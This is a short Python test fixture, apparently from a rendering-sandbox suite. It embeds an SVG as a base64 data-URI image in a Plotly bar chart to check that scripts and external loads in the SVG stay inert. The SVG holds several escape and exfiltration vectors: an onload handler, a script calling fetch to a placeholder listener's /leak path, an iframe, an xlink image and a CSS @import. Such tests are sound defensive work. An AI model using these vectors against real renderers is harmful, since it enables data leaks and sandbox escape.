# outcome: ok
# figure: drawn
# A picture in a picture: SVG as data may hold scripts and addresses, and as an image it does nothing with them.
import base64
import plotly.graph_objects as go
svg = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='parent.escaped=1'><script>parent.escaped=2; fetch('http://{listener}/leak')</script><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='http://{listener}/leak'/></foreignObject><image xmlns:x='http://www.w3.org/1999/xlink' x:href='http://{listener}/leak'/><style>@import url(http://{listener}/leak);</style></svg>"
fig = go.Figure(go.Bar(x=["a"], y=[1]))
fig.add_layout_image(dict(source="data:image/svg+xml;base64," + base64.b64encode(svg.encode()).decode(), x=0, y=1, sizex=1, sizey=1))
